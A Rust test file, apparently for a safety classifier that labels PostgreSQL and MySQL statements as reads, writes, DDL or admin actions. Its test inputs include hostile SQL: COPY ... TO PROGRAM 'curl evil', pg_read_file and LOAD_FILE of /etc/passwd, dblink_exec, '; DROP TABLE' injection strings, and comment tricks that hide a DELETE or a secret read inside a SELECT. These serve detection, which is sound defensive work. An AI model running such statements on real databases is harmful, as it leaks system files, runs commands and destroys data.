//! Classification cases: one `check(sql, expected)` line per behaviour.

use super::*;
use crate::model::{ActionClass, SqlStatement};

/// One statement rendered compactly: `kind class r=reads w=writes where=? f=functions`.
fn render(s: &SqlStatement) -> String {
    let mut out = format!("{} {}", s.kind, s.class.as_str());
    if !s.tables_read.is_empty() {
        out.push_str(&format!(" r={}", s.tables_read.join(",")));
    }
    if !s.tables_written.is_empty() {
        out.push_str(&format!(" w={}", s.tables_written.join(",")));
    }
    match s.has_where {
        Some(true) => out.push_str(" where"),
        Some(false) => out.push_str(" nowhere"),
        None => {}
    }
    if !s.functions.is_empty() {
        out.push_str(&format!(" f={}", s.functions.join(",")));
    }
    out
}

fn classify_with(dialect: SqlDialect, sql: &str) -> Vec<SqlStatement> {
    SqlClassifier::new(dialect, ClassifyLimits::default())
        .classify(sql)
        .statements
        .clone()
}

#[track_caller]
fn check_dialect(dialect: SqlDialect, sql: &str, expected: &[&str]) {
    let got: Vec<String> = classify_with(dialect, sql).iter().map(render).collect();
    assert_eq!(got, expected, "\nsql: {sql}");
}

#[track_caller]
fn check(sql: &str, expected: &[&str]) {
    check_dialect(SqlDialect::Postgres, sql, expected);
}

#[track_caller]
fn check_mysql(sql: &str, expected: &[&str]) {
    check_dialect(SqlDialect::MySql, sql, expected);
}

#[track_caller]
fn texts(sql: &str) -> Vec<String> {
    classify_with(SqlDialect::Postgres, sql)
        .into_iter()
        .map(|s| s.text)
        .collect()
}

#[test]
fn reads() {
    check(
        "SELECT abalance FROM pgbench_accounts WHERE aid = 42",
        &["select read r=pgbench_accounts"],
    );
    check(
        "select o.id, c.name from orders o join public.customers c on c.id = o.cid",
        &["select read r=orders,public.customers"],
    );
    check("SELECT 1", &["select read"]);
    check("VALUES (1), (2)", &["select read"]);
    // sqlparser reads `ONLY t` as table `only` aliased `t`.
    check("SELECT * FROM ONLY payments", &["select read r=payments"]);
    check("SELECT * FROM \"only\" o", &["select read r=only"]);
    // sqlparser's PostgreSQL dialect does not parse `TABLE t`: fail closed.
    check("TABLE payments", &["unknown unknown"]);
    check(
        "SELECT * FROM a WHERE id IN (SELECT aid FROM b WHERE EXISTS (SELECT 1 FROM c))",
        &["select read r=a,b,c"],
    );
    check(
        "SELECT count(*), max(x) FROM t",
        &["select read r=t f=count,max"],
    );
    check(
        "SELECT * FROM generate_series(1, 3)",
        &["select read f=generate_series"],
    );
    check("SELECT pg_sleep(1)", &["select read f=pg_sleep"]);
}

#[test]
fn identifiers_fold_unless_quoted() {
    check("SELECT * FROM \"Payments\"", &["select read r=Payments"]);
    check("SELECT * FROM PAYMENTS", &["select read r=payments"]);
    check(
        "SELECT * FROM Billing.\"Invoices\"",
        &["select read r=billing.Invoices"],
    );
}

#[test]
fn ctes_are_not_tables() {
    check(
        "WITH recent AS (SELECT * FROM orders) SELECT * FROM recent",
        &["select read r=orders"],
    );
    // A CTE does not see itself unless RECURSIVE: the inner name is the table.
    check(
        "WITH payments AS (SELECT * FROM payments) SELECT * FROM payments",
        &["select read r=payments"],
    );
    check(
        "WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM t) SELECT n FROM t",
        &["select read"],
    );
    // A CTE is only in scope inside its own query.
    check(
        "SELECT * FROM (WITH x AS (SELECT 1) SELECT * FROM x) s, x",
        &["select read r=x"],
    );
    // A qualified name never refers to a CTE.
    check(
        "WITH x AS (SELECT 1) SELECT * FROM public.x",
        &["select read r=public.x"],
    );
}

#[test]
fn writes() {
    check(
        "INSERT INTO pgbench_history (tid, bid, aid, delta, mtime) VALUES (1, 1, 1, 5, CURRENT_TIMESTAMP)",
        &["insert write w=pgbench_history f=current_timestamp"],
    );
    check(
        "INSERT INTO archive SELECT * FROM orders WHERE ts < now()",
        &["insert write r=orders w=archive f=now"],
    );
    check("INSERT INTO t SELECT * FROM t", &["insert write r=t w=t"]);
    check(
        "UPDATE pgbench_accounts SET abalance = abalance + 1 WHERE aid = 1",
        &["update write w=pgbench_accounts where"],
    );
    check(
        "UPDATE users SET admin = true",
        &["update write w=users nowhere"],
    );
    check(
        "UPDATE orders o SET total = s.total FROM sums s WHERE s.id = o.id",
        &["update write r=sums w=orders where"],
    );
    check("DELETE FROM sessions", &["delete write w=sessions nowhere"]);
    check(
        "DELETE FROM ONLY sessions",
        &["delete write w=sessions nowhere"],
    );
    check(
        "UPDATE ONLY t SET a = 1 WHERE b = 2",
        &["update write w=t where"],
    );
    check(
        "DELETE FROM sessions WHERE expires < now()",
        &["delete write w=sessions where f=now"],
    );
    check(
        "DELETE FROM a USING b WHERE a.id = b.id",
        &["delete write r=b w=a where"],
    );
    check(
        "INSERT INTO t (id) VALUES (1) ON CONFLICT (id) DO UPDATE SET n = t.n + 1",
        &["insert write w=t"],
    );
    check(
        "MERGE INTO stock s USING deliveries d ON s.item = d.item \
         WHEN MATCHED THEN UPDATE SET qty = s.qty + d.qty \
         WHEN NOT MATCHED THEN INSERT (item, qty) VALUES (d.item, d.qty)",
        &["merge write r=deliveries w=stock"],
    );
    check(
        "TRUNCATE orders, payments",
        &["truncate write w=orders,payments nowhere"],
    );
    check("CALL refresh_totals(1)", &["call write f=refresh_totals"]);
}

#[test]
fn writes_hidden_in_reads() {
    // Data-modifying CTE: looks like a SELECT, deletes everything.
    check(
        "WITH d AS (DELETE FROM audit RETURNING *) SELECT count(*) FROM d",
        &["select write w=audit nowhere f=count"],
    );
    check(
        "WITH moved AS (DELETE FROM q WHERE id < 10 RETURNING *) INSERT INTO done SELECT * FROM moved",
        &["insert write w=q,done where"],
    );
    check(
        "SELECT * INTO backup FROM users",
        &["select_into write r=users w=backup"],
    );
    check(
        "SELECT * FROM jobs WHERE id = 1 FOR UPDATE",
        &["select_for_update write r=jobs"],
    );
    check("SELECT nextval('order_seq')", &["select write f=nextval"]);
    check("SELECT setval('order_seq', 1)", &["select write f=setval"]);
}

#[test]
fn admin_functions() {
    check(
        "SELECT pg_terminate_backend(pid) FROM pg_stat_activity",
        &["select admin r=pg_stat_activity f=pg_terminate_backend"],
    );
    check(
        "select PG_CATALOG.\"PG_READ_FILE\"('/etc/passwd')",
        &["select admin f=pg_read_file"],
    );
    check(
        "SELECT set_config('role', 'postgres', false)",
        &["select admin f=set_config"],
    );
    check(
        "SELECT * FROM dblink('host=x', 'DELETE FROM t') AS r(x int)",
        &["select admin f=dblink"],
    );
    check(
        "SELECT dblink_exec('host=x', 'DROP TABLE t')",
        &["select admin f=dblink_exec"],
    );
    check(
        "UPDATE t SET x = pg_cancel_backend(1) WHERE id = 1",
        &["update admin w=t where f=pg_cancel_backend"],
    );
    check(
        "SELECT lo_import('/etc/passwd')",
        &["select admin f=lo_import"],
    );
    check(
        "SELECT pg_reload_conf()",
        &["select admin f=pg_reload_conf"],
    );
}

#[test]
fn ddl() {
    check("DROP TABLE payments", &["drop_table ddl w=payments"]);
    check("dRoP tAbLe PaYmEnTs", &["drop_table ddl w=payments"]);
    check(
        "DROP TABLE IF EXISTS a, b CASCADE",
        &["drop_table ddl w=a,b"],
    );
    check("DROP SCHEMA billing CASCADE", &["drop_schema ddl"]);
    check("DROP DATABASE prod", &["drop_database ddl"]);
    check("DROP INDEX idx_orders_ts", &["drop_index ddl"]);
    check("DROP VIEW v", &["drop_view ddl w=v"]);
    check("DROP FUNCTION f(int)", &["drop_function ddl"]);
    check(
        "CREATE TABLE t (id int primary key, name text)",
        &["create_table ddl w=t"],
    );
    check(
        "CREATE TABLE t2 AS SELECT * FROM t",
        &["create_table ddl r=t w=t2"],
    );
    check(
        "CREATE INDEX idx ON orders (ts)",
        &["create_index ddl w=orders"],
    );
    check(
        "CREATE VIEW v AS SELECT id FROM users",
        &["create_view ddl r=users w=v"],
    );
    check("CREATE SCHEMA s", &["create_schema ddl"]);
    check(
        "ALTER TABLE users ADD COLUMN age int",
        &["alter_table ddl w=users"],
    );
    check(
        "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS $$ SELECT 1 $$",
        &["create_function ddl"],
    );
}

#[test]
fn admin_statements() {
    check("GRANT SELECT ON t TO bob", &["grant admin"]);
    check("REVOKE ALL ON t FROM bob", &["revoke admin"]);
    check("CREATE ROLE bob LOGIN", &["create_role admin"]);
    check("ALTER ROLE bob SUPERUSER", &["alter_role admin"]);
    check("DROP ROLE bob", &["drop_role admin"]);
    check("SET ROLE postgres", &["set_role admin"]);
    check("SET role = 'postgres'", &["set_role admin"]);
    check(
        "SET SESSION AUTHORIZATION postgres",
        &["set_session_authorization admin"],
    );
    check("ALTER SYSTEM SET work_mem = '1GB'", &["alter_system admin"]);
    check("DO $$ BEGIN DELETE FROM t; END $$", &["do admin"]);
    check("CREATE EXTENSION dblink", &["create_extension admin"]);
    check("VACUUM FULL orders", &["vacuum admin w=orders"]);
}

#[test]
fn copy() {
    check("COPY orders FROM STDIN", &["copy_from write w=orders"]);
    check("COPY orders TO STDOUT", &["copy_to read r=orders"]);
    check(
        "COPY (SELECT * FROM orders) TO STDOUT WITH CSV",
        &["copy_to read r=orders"],
    );
    check(
        "COPY orders FROM '/tmp/x.csv'",
        &["copy_from admin w=orders"],
    );
    check("COPY orders TO '/tmp/x.csv'", &["copy_to admin r=orders"]);
    check(
        "COPY orders TO PROGRAM 'curl evil'",
        &["copy_to admin r=orders"],
    );
}

#[test]
fn explain() {
    check("EXPLAIN SELECT * FROM t", &["explain read r=t"]);
    check("EXPLAIN DELETE FROM t", &["explain read r=t"]);
    check(
        "EXPLAIN ANALYZE DELETE FROM t",
        &["explain write w=t nowhere"],
    );
    check("EXPLAIN ANALYZE SELECT * FROM t", &["explain read r=t"]);
}

#[test]
fn session_and_transactions() {
    check("BEGIN", &["begin tx"]);
    check(
        "START TRANSACTION ISOLATION LEVEL SERIALIZABLE",
        &["begin tx"],
    );
    check("COMMIT", &["commit tx"]);
    check("ROLLBACK", &["rollback tx"]);
    check("SAVEPOINT a", &["savepoint tx"]);
    check("RELEASE SAVEPOINT a", &["release tx"]);
    check("ROLLBACK TO SAVEPOINT a", &["rollback tx"]);
    check("SET search_path = app, public", &["set other"]);
    check("SET TRANSACTION READ ONLY", &["set_transaction tx"]);
    check("SHOW work_mem", &["show other"]);
    check("RESET ALL", &["reset other"]);
    check("DISCARD ALL", &["discard other"]);
    check("LISTEN jobs", &["listen other"]);
    check("NOTIFY jobs", &["notify other"]);
    check("UNLISTEN *", &["unlisten other"]);
    check("DEALLOCATE q1", &["deallocate other"]);
    check(
        "LOCK TABLE orders IN ACCESS EXCLUSIVE MODE",
        &["lock write w=orders"],
    );
}

#[test]
fn prepared_and_cursors() {
    check(
        "PREPARE q1 (int) AS DELETE FROM t WHERE id = $1",
        &["prepare write w=t where"],
    );
    check("PREPARE q2 AS SELECT * FROM t", &["prepare read r=t"]);
    check("EXECUTE q1(1)", &["execute unknown"]);
    check(
        "DECLARE c CURSOR FOR SELECT * FROM t",
        &["declare read r=t"],
    );
    check("FETCH 10 FROM c", &["fetch read"]);
    check("CLOSE c", &["close other"]);
}

#[test]
fn multiple_statements_each_with_own_text() {
    check(
        "SELECT 1; DROP TABLE x; BEGIN",
        &["select read", "drop_table ddl w=x", "begin tx"],
    );
    assert_eq!(
        texts("SELECT 1;\n  DROP TABLE x ;; commit;"),
        ["SELECT 1", "DROP TABLE x", "commit"]
    );
    // Comments around a statement do not hide it.
    check("/* harmless */ DROP TABLE x", &["drop_table ddl w=x"]);
    check("-- just a note\nDROP TABLE x", &["drop_table ddl w=x"]);
    check("SELECT 1 /* ; DROP TABLE x */", &["select read"]);
    // PostgreSQL nests block comments: all of this is one comment.
    check("/* /* */ DROP TABLE x; */ SELECT 1", &["select read"]);
    // Dollar quotes and strings keep their semicolons.
    check(
        "SELECT $$a; DROP TABLE x$$; SELECT 'b; DROP TABLE y'",
        &["select read", "select read"],
    );
    check("SELECT $tag$ ; $$ ; $tag$", &["select read"]);
    assert_eq!(
        texts("SELECT 'é';SELECT 'ü' ;"),
        ["SELECT 'é'", "SELECT 'ü'"]
    );
}

#[test]
fn empty_and_unknown() {
    check("", &[]);
    check("   ", &[]);
    check("-- only a comment", &[]);
    check("/* a */ ; ;", &[]);
    check("SELEKT * FROM t", &["unknown unknown"]);
    check("SELECT 'unterminated", &["unknown unknown"]);
    // A bad statement does not hide the good ones around it.
    check(
        "SELECT 1; FROBNICATE; DROP TABLE x",
        &["select read", "unknown unknown", "drop_table ddl w=x"],
    );
    // Two statements without a separator are a syntax error, not one SELECT.
    check("SELECT 1 DROP TABLE x", &["unknown unknown"]);
    let s = &classify_with(SqlDialect::Postgres, "SELEKT 1")[0];
    assert!(s.note.as_deref().is_some_and(|n| n.contains("parser")));
    assert_eq!(s.text, "SELEKT 1");
}

#[test]
fn limits_fail_closed() {
    let classifier = SqlClassifier::new(
        SqlDialect::Postgres,
        ClassifyLimits {
            max_statement_bytes: 32,
            ..ClassifyLimits::default()
        },
    );
    let got = classifier.classify("SELECT * FROM a_table_with_a_long_name");
    assert_eq!(got.statements.len(), 1);
    assert_eq!(got.statements[0].class, ActionClass::Unknown);

    // Long operator chains never reach the parser.
    let chain = format!("SELECT 1{}", "+1".repeat(50_000));
    check(&chain, &["unknown unknown"]);
    let unions = "SELECT 1 UNION ".repeat(20_000) + "SELECT 1";
    check(&unions, &["unknown unknown"]);
    let ors = format!(
        "SELECT * FROM t WHERE {}",
        vec!["a = 1"; 20_000].join(" OR ")
    );
    check(&ors, &["unknown unknown"]);
    // Deep parentheses hit sqlparser's recursion limit.
    let parens = format!("SELECT {}1{}", "(".repeat(5_000), ")".repeat(5_000));
    check(&parens, &["unknown unknown"]);
    let explains = "EXPLAIN ".repeat(20_000) + "SELECT 1";
    check(&explains, &["unknown unknown"]);
    // A deep statement does not take its neighbours down with it.
    check(
        &format!("DROP TABLE x; {chain}"),
        &["drop_table ddl w=x", "unknown unknown"],
    );
    // Wide but shallow statements are fine.
    let values = format!(
        "INSERT INTO t VALUES {}",
        vec!["(1, -1, 'x')"; 5_000].join(", ")
    );
    check(&values, &["insert write w=t"]);
}

#[test]
fn mysql_dialect() {
    check_mysql("SELECT * FROM `Orders`", &["select read r=Orders"]);
    check_mysql(
        "DELETE t1 FROM t1 JOIN t2 ON t1.id = t2.id WHERE t2.x = 1",
        &["delete write r=t1,t2 w=t1 where"],
    );
    check_mysql(
        "UPDATE a JOIN b ON a.id = b.id SET a.x = b.y",
        &["update write w=a,b nowhere"],
    );
    // MySQL runs the contents of /*! ... */ comments; their statements'
    // text is rendered from the parse tree (the tokens' positions are the
    // comment's).
    check_mysql(
        "SELECT 1 /*! ; DROP TABLE x */",
        &["select read", "drop_table ddl w=x"],
    );
    let texts: Vec<String> =
        classify_with(SqlDialect::MySql, "SELECT 1 /*!50000 ; DROP TABLE x */")
            .into_iter()
            .map(|s| s.text)
            .collect();
    assert_eq!(texts, ["SELECT 1", "DROP TABLE x"]);
    check_mysql(
        "SELECT '/*!' /*! ; FROBNICATE */; DROP TABLE x",
        &["select read", "unknown unknown", "drop_table ddl w=x"],
    );
    check_mysql("SELECT 'a\\'; DROP TABLE x; --'", &["select read"]);
    check_mysql("SELECT sleep(1)", &["select read f=sleep"]);
    check_mysql(
        "SELECT LOAD_FILE('/etc/passwd')",
        &["select admin f=load_file"],
    );
}

#[test]
fn cache_returns_same_arc() {
    let c = SqlClassifier::new(SqlDialect::Postgres, ClassifyLimits::default());
    let a = c.classify("SELECT 1");
    let b = c.classify("SELECT 1");
    assert!(Arc::ptr_eq(&a, &b));
    let uncached = SqlClassifier::new(
        SqlDialect::Postgres,
        ClassifyLimits {
            cache_entries: 0,
            ..ClassifyLimits::default()
        },
    );
    assert!(!Arc::ptr_eq(
        &uncached.classify("SELECT 1"),
        &uncached.classify("SELECT 1")
    ));
}

/// Chains just under the nesting limit are parsed, walked and dropped
/// within a small stack; the limit exists so that this always holds.
#[test]
fn chains_under_the_limit_fit_a_small_stack() {
    let n = ClassifyLimits::default().max_nesting - 2;
    let cases = [
        (format!("SELECT 1{}", "+1".repeat(n)), "select read"),
        ("SELECT 1 UNION ".repeat(n) + "SELECT 1", "select read"),
        (
            format!("SELECT * FROM t WHERE {}", vec!["a"; n].join(" OR ")),
            "select read r=t",
        ),
        (format!("SELECT 1{}", "::int".repeat(n)), "select read"),
    ];
    for (sql, expected) in cases {
        let got = std::thread::Builder::new()
            .stack_size(1024 * 1024)
            .spawn(move || {
                classify_with(SqlDialect::Postgres, &sql)
                    .iter()
                    .map(render)
                    .collect::<Vec<_>>()
            })
            .expect("spawn")
            .join()
            .expect("no panic");
        assert_eq!(got, [expected]);
    }
}

/// PostgreSQL cuts an operator before `--` or `/*` and starts a comment;
/// sqlparser reads `#--` as one operator and then takes the rest for a
/// string, so the DELETE below would have passed as a plain SELECT.
#[test]
fn an_operator_running_into_a_comment_start_is_unknown() {
    for sql in [
        "SELECT 1 #--'\n2; DELETE FROM accounts; SELECT 'x--'",
        "SELECT 1 #--'\n2, (SELECT secret FROM payroll) AS s, 'x--'",
        "SELECT 1 @--x\n2",
        "SELECT 1 |/*x*/ 2",
        "SELECT 1 ?--x\n2",
        "SELECT 1 -/*x*/2",
        "SELECT 1 >--x\n2",
    ] {
        let got = classify_with(SqlDialect::Postgres, sql);
        assert_eq!(got.len(), 1, "{sql:?}: {got:?}");
        assert_eq!(got[0].class, ActionClass::Unknown, "{sql:?}");
        assert!(
            got[0]
                .note
                .as_deref()
                .is_some_and(|n| n.contains("comment")),
            "{sql:?}"
        );
    }
    // Where sqlparser also sees the comment, nothing changes.
    check("SELECT 1 +-- c\n 2", &["select read"]);
    check("SELECT a*/*c*/2 FROM t", &["select read r=t"]);
    check("SELECT 1 - -1 FROM t WHERE a<>-1 --c", &["select read r=t"]);
    check("SELECT '#--' || '|/*' FROM t", &["select read r=t"]);
}

/// Two texts with one shape key, where the first (if it were cached) would
/// have stood for a second that reads another table.
#[test]
fn no_shape_across_an_operator_running_into_a_comment() {
    let c = pg();
    let a = "SELECT 1 #--x::foo('\n, ')--'\n#--')--'\n+ 1";
    let b = "SELECT 1 #--x::foo('\n, ') , (SELECT secret FROM payroll) --'\n#--')--'\n+ 1";
    for text in [a, b] {
        assert_eq!(*c.classify(text), c.classify_uncached(text), "{text:?}");
    }
    assert_eq!(c.shapes_len(), 0);
}

// ---------------------------------------------------------------------------
// Shape cache (literal-normalised PostgreSQL statements).

fn pg() -> SqlClassifier {
    SqlClassifier::new(SqlDialect::Postgres, ClassifyLimits::default())
}

#[test]
fn shape_cache_hits_for_new_literals() {
    let c = pg();
    let first = "SELECT abalance FROM pgbench_accounts WHERE aid = 1;";
    let second = "SELECT abalance FROM pgbench_accounts WHERE aid = 48213;";
    assert_eq!(*c.classify(first), c.classify_uncached(first));
    assert_eq!(c.shapes_len(), 1);
    assert_eq!(c.shape_hits(), 0);
    let got = c.classify(second);
    assert_eq!(c.shape_hits(), 1);
    assert_eq!(*got, c.classify_uncached(second));
    assert_eq!(
        got.statements[0].text,
        "SELECT abalance FROM pgbench_accounts WHERE aid = 48213"
    );
    // Strings, with comments around the statement.
    let a = "/* app */ UPDATE users SET name = 'a' WHERE id = 7; -- done";
    let b = "/* app */ UPDATE users SET name = 'it''s é' WHERE id = 123456; -- done";
    assert_eq!(*c.classify(a), c.classify_uncached(a));
    assert_eq!(*c.classify(b), c.classify_uncached(b));
    assert_eq!(c.shape_hits(), 2);
    // A shape hit does not fill the text cache (distinct literals would
    // only churn it): the same text again is another shape hit.
    assert_eq!(
        c.classify(b).statements[0].text,
        "UPDATE users SET name = 'it''s é' WHERE id = 123456"
    );
    assert_eq!(c.shape_hits(), 3);
    // Risky functions keep their class: the name is part of the shape.
    let a = "SELECT pg_read_file('/tmp/a')";
    let b = "SELECT pg_read_file('/etc/passwd')";
    c.classify(a);
    assert_eq!(c.classify(b).statements[0].class, ActionClass::Admin);
    assert_eq!(c.shape_hits(), 4);
}

/// Shapes that must never be answered from the shape cache.
#[test]
fn shape_cache_fails_closed() {
    #[track_caller]
    fn no_shape_hit(dialect: SqlDialect, limits: ClassifyLimits, a: &str, b: &str) {
        let c = SqlClassifier::new(dialect, limits);
        assert_eq!(*c.classify(a), c.classify_uncached(a), "{a:?}");
        assert_eq!(*c.classify(b), c.classify_uncached(b), "{b:?}");
        assert_eq!(c.shape_hits(), 0, "{a:?} / {b:?}");
        assert_eq!(c.shapes_len(), 0, "{a:?} / {b:?}");
    }
    let pg = |a: &str, b: &str| no_shape_hit(SqlDialect::Postgres, ClassifyLimits::default(), a, b);
    // sqlparser reads a string as a name here: its value is a table name,
    // a CTE name, an alias.
    pg("SELECT * FROM 'payments'", "SELECT * FROM 'secrets'");
    pg(
        "WITH 'payments' AS (SELECT 1) SELECT * FROM payments",
        "WITH 'other' AS (SELECT 1) SELECT * FROM payments",
    );
    pg("SELECT 1 AS 'a'", "SELECT 1 AS 'b'");
    // A number kept as a type modifier, not a value (and its size decides
    // whether it parses at all).
    pg(
        "SELECT 'x'::varchar(10)",
        "SELECT 'x'::varchar(99999999999999999999999)",
    );
    // Not one of the normalised statement kinds.
    pg("SET work_mem = '1GB'", "SET work_mem = '2GB'");
    pg("COPY t TO '/tmp/a'", "COPY t TO '/tmp/b'");
    pg("EXPLAIN SELECT 1", "EXPLAIN SELECT 2");
    // Unknown, several statements, lexer bail-outs.
    pg("SELEKT 1", "SELEKT 2");
    pg("SELECT 1; SELECT 2", "SELECT 3; SELECT 4");
    pg("SELECT E'a'", "SELECT E'b'");
    pg("SELECT 1e5", "SELECT 2e5");
    // Other dialects, over the statement limit, caching disabled.
    no_shape_hit(
        SqlDialect::MySql,
        ClassifyLimits::default(),
        "SELECT 1",
        "SELECT 2",
    );
    // Over the statement limit a text is `unknown` whatever its shape.
    let c = SqlClassifier::new(
        SqlDialect::Postgres,
        ClassifyLimits {
            max_statement_bytes: 12,
            ..ClassifyLimits::default()
        },
    );
    c.classify("SELECT 1");
    assert_eq!(c.shapes_len(), 1);
    let long = c.classify("SELECT 1234567");
    assert_eq!(*long, c.classify_uncached("SELECT 1234567"));
    assert_eq!(long.statements[0].class, ActionClass::Unknown);
    assert_eq!(c.shape_hits(), 0);
    no_shape_hit(
        SqlDialect::Postgres,
        ClassifyLimits {
            cache_entries: 0,
            ..ClassifyLimits::default()
        },
        "SELECT 1",
        "SELECT 2",
    );
}

mod shape_props {
    use super::*;
    use proptest::prelude::*;

    /// The first `PLAIN` templates are ordinary statements that must hit the
    /// shape cache; the others are corner cases that may or may not.
    const PLAIN: usize = 23;

    /// Templates: `{n}` integer, `{d}` decimal, `{s}` string, `{c}` a
    /// comment or whitespace. Literal holes get new values in each
    /// instance; `{c}` holes are the same in both, so the shape matches.
    const TEMPLATES: &[&str] = &[
        "SELECT abalance FROM pgbench_accounts WHERE aid = {n}",
        "SELECT * FROM orders{c}WHERE customer = {s} AND total > {d} LIMIT {n} OFFSET {n}",
        "INSERT INTO pgbench_history (tid, bid, aid, delta, mtime) VALUES ({n}, {n}, {n}, -{n}, CURRENT_TIMESTAMP)",
        "INSERT INTO t (id, name) VALUES ({n}, {s}), ({n}, {s}) ON CONFLICT (id) DO UPDATE SET n = t.n + {n}",
        "UPDATE pgbench_accounts SET abalance = abalance + {n}{c}WHERE aid = {n}",
        "UPDATE users SET name = {s}",
        "DELETE FROM sessions WHERE id = {n}",
        "DELETE FROM sessions{c}",
        "WITH d AS (DELETE FROM audit WHERE id < {n} RETURNING *) SELECT count(*) FROM d",
        "WITH x AS (SELECT {n} AS v) SELECT * FROM x, payments WHERE payments.id = {n}",
        "SELECT pg_read_file({s})",
        "SELECT set_config('role', {s}, false)",
        "SELECT set_config({s}, {s}, false)",
        "SELECT * FROM dblink({s}, {s}) AS r(x int)",
        "SELECT dblink_exec({s},{c}{s})",
        "SELECT nextval({s}), lo_import({s})",
        "UPDATE t SET x = pg_cancel_backend({n}) WHERE id = {n}",
        "SELECT * FROM jobs WHERE id = {n} FOR UPDATE",
        "SELECT * INTO backup FROM users WHERE id = {n}",
        "SELECT * FROM t WHERE ts > now() - interval {s} AND a IN ({n}, {n}, {d})",
        "SELECT \"Col\" FROM \"Weird Table\" WHERE \"x\" = {s} AND y = $1",
        "SELECT x FROM t ORDER BY {n} FETCH FIRST {n} ROWS ONLY",
        "VALUES ({n}, {s}),{c}({d}, {s})",
        "SELECT {s}::varchar({n})",
        "SELECT CAST({s} AS numeric({n}, {n}))",
        "SELECT * FROM {s}",
        "SELECT * FROM ONLY {s}",
        "WITH {s} AS (SELECT {n}) SELECT * FROM payments",
        "SELECT {n} AS {s}",
        "SELECT {s}\n{s}",
        "SELECT {s}.x FROM t",
        "SELECT arr[{n}:{n}] FROM t",
        "SELECT @{n}, x FROM t",
        "SELECT x FROM t WHERE y = :{n}",
        "SELECT * FROM t TABLESAMPLE SYSTEM ({d}) REPEATABLE ({n})",
        "SELECT {n}{c}--{s}\n, {s}",
        "BEGIN",
        "COMMIT",
        "END",
        "ROLLBACK",
        "START TRANSACTION ISOLATION LEVEL SERIALIZABLE",
    ];

    const COMMENTS: &[&str] = &[
        " ",
        "\n",
        "\t",
        " /* note */ ",
        " -- note\n",
        " /* /* nested */ 'x' */ ",
        "\r\n",
    ];

    const PREFIXES: &[&str] = &["", "  ", "/* lead */ ", "-- lead\n", "\n\t"];
    const SUFFIXES: &[&str] = &["", ";", " ; ", ";;", "; -- end", " /* tail */", "\n"];

    /// One instance: each hole takes the next value of its kind.
    fn fill(
        template: &str,
        comments: &[usize],
        ints: &[u64],
        decimals: &[String],
        strings: &[String],
    ) -> String {
        let (mut c, mut n, mut d, mut s) = (0, 0, 0, 0);
        let mut out = String::new();
        let mut rest = template;
        while let Some(at) = rest.find('{') {
            out.push_str(&rest[..at]);
            let hole = &rest[at..at + 3];
            match hole {
                "{c}" => {
                    out.push_str(COMMENTS[comments[c % comments.len()] % COMMENTS.len()]);
                    c += 1;
                }
                "{n}" => {
                    out.push_str(&ints[n % ints.len()].to_string());
                    n += 1;
                }
                "{d}" => {
                    out.push_str(&decimals[d % decimals.len()]);
                    d += 1;
                }
                "{s}" => {
                    out.push('\'');
                    out.push_str(&strings[s % strings.len()].replace('\'', "''"));
                    out.push('\'');
                    s += 1;
                }
                other => panic!("unknown hole {other}"),
            }
            rest = &rest[at + 3..];
        }
        out.push_str(rest);
        out
    }

    fn literals() -> impl Strategy<Value = (Vec<u64>, Vec<String>, Vec<String>)> {
        (
            prop::collection::vec(prop_oneof![0u64..100, 0u64..10_000_000, Just(u64::MAX)], 8),
            prop::collection::vec("[0-9]{1,5}\\.[0-9]{1,3}", 4),
            prop::collection::vec(
                prop_oneof![
                    "[a-zA-Z0-9 _./é-]{0,12}",
                    Just("role".to_string()),
                    Just("postgres".to_string()),
                    Just("payments".to_string()),
                    Just("it's".to_string()),
                    Just("; DROP TABLE x; --".to_string()),
                    Just("/* */ $$ \" ".to_string()),
                    Just("1 day".to_string()),
                ],
                6,
            ),
        )
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(512))]

        /// Two instances of a shape, classified in turn by one classifier
        /// (so the second may come from the shape cache), classify exactly
        /// as without any cache.
        #[test]
        fn shape_cache_matches_uncached(
            template in 0..TEMPLATES.len(),
            prefix in 0..PREFIXES.len(),
            suffix in 0..SUFFIXES.len(),
            comments in prop::collection::vec(0..COMMENTS.len(), 3),
            first in literals(),
            second in literals(),
        ) {
            let c = pg();
            let texts = [&first, &second].map(|(ints, decimals, strings)| {
                format!(
                    "{}{}{}",
                    PREFIXES[prefix],
                    fill(TEMPLATES[template], &comments, ints, decimals, strings),
                    SUFFIXES[suffix]
                )
            });
            for text in &texts {
                let cached = c.classify(text);
                prop_assert_eq!(&*cached, &c.classify_uncached(text), "text {:?}", text);
                // Once more: now from the text cache.
                prop_assert_eq!(&*c.classify(text), &c.classify_uncached(text));
            }
        }
    }

    /// The plain templates do hit the shape cache (the property above would
    /// also hold if it never did).
    #[test]
    fn plain_templates_hit() {
        let strings = |v: &str| vec![v.to_string(); 6];
        for template in &TEMPLATES[..PLAIN] {
            let c = pg();
            let a = fill(
                template,
                &[0, 1, 2],
                &[1, 2, 3],
                &["1.5".into()],
                &strings("a"),
            );
            let b = fill(
                template,
                &[0, 1, 2],
                &[7, 8, 9],
                &["2.25".into()],
                &strings("b'c"),
            );
            if a == b {
                // No literal: the text cache answers.
                continue;
            }
            assert_eq!(*c.classify(&a), c.classify_uncached(&a));
            assert_eq!(*c.classify(&b), c.classify_uncached(&b));
            assert_eq!(c.shape_hits(), 1, "{template}");
        }
    }
}

/// `cargo test -p airlock-pipeline --release -- --ignored shape_cache_speed --nocapture`
#[test]
#[ignore]
fn shape_cache_speed() {
    use std::time::Instant;
    const N: u64 = 100_000;
    let texts: Vec<String> = (0..N)
        .map(|i| match i % 3 {
            0 => format!("SELECT abalance FROM pgbench_accounts WHERE aid = {};", 1 + i * 7919 % 10_000_000),
            1 => format!(
                "UPDATE pgbench_accounts SET abalance = abalance + {} WHERE aid = {};",
                i % 10_000,
                1 + i * 7919 % 10_000_000
            ),
            _ => format!(
                "INSERT INTO pgbench_history (tid, bid, aid, delta, mtime) VALUES ({}, {}, {}, {}, CURRENT_TIMESTAMP);",
                i % 10,
                i % 100,
                i,
                i % 5000
            ),
        })
        .collect();
    let selects: Vec<&String> = texts.iter().step_by(3).collect();
    let c = pg();
    let time = |f: &dyn Fn(&str), set: &[&String]| {
        let start = Instant::now();
        for t in set {
            f(t);
        }
        start.elapsed().as_secs_f64() * 1e6 / set.len() as f64
    };
    let all: Vec<&String> = texts.iter().collect();
    let uncached_all = time(&|t| drop(c.classify_uncached(t)), &all);
    let uncached_sel = time(&|t| drop(c.classify_uncached(t)), &selects);
    let cached_all = time(&|t| drop(c.classify(t)), &all);
    let c2 = pg();
